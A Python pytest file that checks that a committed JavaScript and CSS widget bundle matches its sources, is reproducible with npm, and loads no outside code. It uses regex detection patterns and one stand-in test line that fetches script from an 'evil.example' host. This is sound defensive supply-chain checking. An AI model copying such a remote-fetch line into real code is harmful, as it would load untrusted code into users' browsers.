"""The GraphEditor's committed browser bundle (chimera_lab/jupyter/static/graph_editor.{js,css}): built from the
current sources in widgets/graph_editor (the digest on its first line), a plain self-contained ES module that loads
no code from anywhere, and reproducible by `npm ci && npm run build` (when npm is available)."""

from __future__ import annotations

import importlib.util
import os
import re
import shutil
import subprocess
from pathlib import Path
from types import ModuleType

import pytest

REPO = Path(__file__).resolve().parent.parent
SOURCES = REPO / "widgets" / "graph_editor"
STATIC = REPO / "chimera_lab" / "jupyter" / "static"
BUNDLE = STATIC / "graph_editor.js"
CSS = STATIC / "graph_editor.css"


def _digest_module() -> ModuleType:
    spec = importlib.util.spec_from_file_location("graph_editor_digest", SOURCES / "digest.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


digest = _digest_module()
STALE = ("rebuild it: `make editor` (or `cd widgets/graph_editor && npm ci && npm run build`) and commit "
         "chimera_lab/jupyter/static/graph_editor.js and graph_editor.css")


def test_bundle_header_names_the_current_sources() -> None:
    first = BUNDLE.read_text(encoding="utf-8").split("\n", 1)[0]
    assert first.startswith(digest.HEADER_PREFIX), f"unexpected first line of {BUNDLE.name}: {first[:120]!r}"
    built_from = first[len(digest.HEADER_PREFIX):].strip()
    assert re.fullmatch(r"[0-9a-f]{64}", built_from), first
    current = digest.sources_digest()
    assert built_from == current, f"{BUNDLE.name} was not built from the sources in widgets/graph_editor: {STALE}"
    css_first = CSS.read_text(encoding="utf-8").split("\n", 1)[0]
    assert css_first.startswith("/* chimera_lab graph editor:") and current in css_first, \
        f"{CSS.name} was not built from the sources in widgets/graph_editor: {STALE}"


def test_digest_covers_the_sources() -> None:
    files = digest.source_files()
    assert {"package.json", "package-lock.json", "build.mjs"} <= set(files)
    assert any(f.startswith("src/") for f in files)
    assert files == sorted(files, key=lambda f: f.encode())


# what a module load looks like in (minified) JavaScript; error messages that merely mention `import '...'` are
# preceded by a word, not by a statement boundary
STATIC_IMPORT = re.compile(r"""(?:^|[;}\n])\s*import\s*(?:[\w$*{][^;"'`]*?\bfrom\s*)?["'`]""")
DYNAMIC_IMPORT = re.compile(r"\bimport\s*\(")
REQUIRE = re.compile(r"\brequire\s*\(")
OTHER_LOADS = re.compile(r"\bimportScripts\s*\(|\bnew\s+(?:Shared)?Worker\s*\(|<script\b[^>]*\bsrc\s*=", re.I)
REMOTE_LOAD = re.compile(
    r"""(?:\bfrom\s*|\bimport\s*\(\s*|\bfetch\s*\(\s*|\.src\s*=\s*|\bsrc=|\bhref=|\burl\()["'`]?\s*(?:https?:)?//""",
    re.I,
)
URL = re.compile(r"""https?://[^\s"'`)<>\\]*""")
# the URLs the bundle may contain: XML namespaces and links in error messages / the React Flow attribution
ALLOWED_URLS = re.compile(
    r"http://www\.w3\.org/|https://reactjs\.org/docs/error-decoder\.html|https://react\.dev/errors/"
    r"|https://reactflow\.dev\b|https://\$\{[\w$]+\}flow\.dev/|https://xyflow\.com\b"
)


def test_patterns_match_what_they_should() -> None:
    assert STATIC_IMPORT.search('var a=1;import{b as c}from"https://x/y.js";')
    assert STATIC_IMPORT.search('import"./x.js";')
    assert STATIC_IMPORT.search("import React from 'react'")
    assert not STATIC_IMPORT.search("`Please import '@xyflow/${e}/dist/style.css' or base.css`")
    assert OTHER_LOADS.search('<script src="https://x/y.js">')
    assert not OTHER_LOADS.search('e.innerHTML="<script><\\/script>"')
    assert REMOTE_LOAD.search('fetch("https://evil.example/x.js")')
    assert not REMOTE_LOAD.search('"http://www.w3.org/2000/svg"')


def test_bundle_is_a_self_contained_es_module() -> None:
    text = BUNDLE.read_text(encoding="utf-8")
    body = text.split("\n", 1)[1]
    assert not STATIC_IMPORT.search(body), f"static import in the bundle: {STATIC_IMPORT.search(body)}"
    assert not DYNAMIC_IMPORT.search(body), "dynamic import() in the bundle"
    assert not REQUIRE.search(body), "require( in the bundle"
    assert not OTHER_LOADS.search(body), f"code loading in the bundle: {OTHER_LOADS.search(body)}"
    assert not REMOTE_LOAD.search(body), f"a remote load in the bundle: {REMOTE_LOAD.search(body)}"
    urls = sorted({u for u in URL.findall(body) if not ALLOWED_URLS.match(u)})
    assert not urls, f"unexpected URLs in the bundle (check they are not loaded, then allow them here): {urls}"
    assert "process.env" not in body, "process.env left in the bundle (define it in build.mjs)"
    # `export default { render }`, as anywidget wants
    m = re.search(r"export\s*\{\s*([\w$]+)\s+as\s+default\s*\}\s*;?\s*$", body) or re.search(
        r"export\s+default\s*\{", body)
    assert m, "no `export default` at the end of the bundle"
    if m.groups():
        name = re.escape(m.group(1))
        assert re.search(rf"\b{name}\s*=\s*\{{\s*render\s*:", body), "the default export has no render"
    css = CSS.read_text(encoding="utf-8")
    assert "@import" not in css and not re.search(r"url\(\s*['\"]?\s*(?:https?:)?//", css), "remote load in the CSS"
    assert ".react-flow" in css and ".chimera-ge-node" in css


def _npm() -> str:
    npm = shutil.which("npm")
    if npm is None:
        if os.environ.get("CI"):
            pytest.fail("CI is set and npm is not on PATH: cannot check that the bundle is reproducible",
                        pytrace=False)
        pytest.skip("npm is not on PATH")
    return npm


@pytest.mark.timeout(900)
def test_build_reproduces_the_committed_bundle(tmp_path: Path) -> None:
    npm = _npm()
    work = tmp_path / "graph_editor"
    work.mkdir()
    for name in digest.TOP_FILES:
        shutil.copy2(SOURCES / name, work / name)
    shutil.copytree(SOURCES / "src", work / "src")
    out = tmp_path / "out"
    env = {**os.environ, "npm_config_audit": "false", "npm_config_fund": "false",
           "npm_config_update_notifier": "false"}
    for args in ([npm, "ci"], [npm, "run", "build", "--", "--outdir", str(out)]):
        proc = subprocess.run(args, cwd=work, env=env, capture_output=True, text=True, timeout=840)
        assert proc.returncode == 0, f"{' '.join(args[1:])} failed:\n{proc.stdout[-3000:]}\n{proc.stderr[-3000:]}"
    for name in ("graph_editor.js", "graph_editor.css"):
        built = (out / name).read_bytes()
        assert built == (STATIC / name).read_bytes(), f"npm run build gives another {name} than the committed: {STALE}"
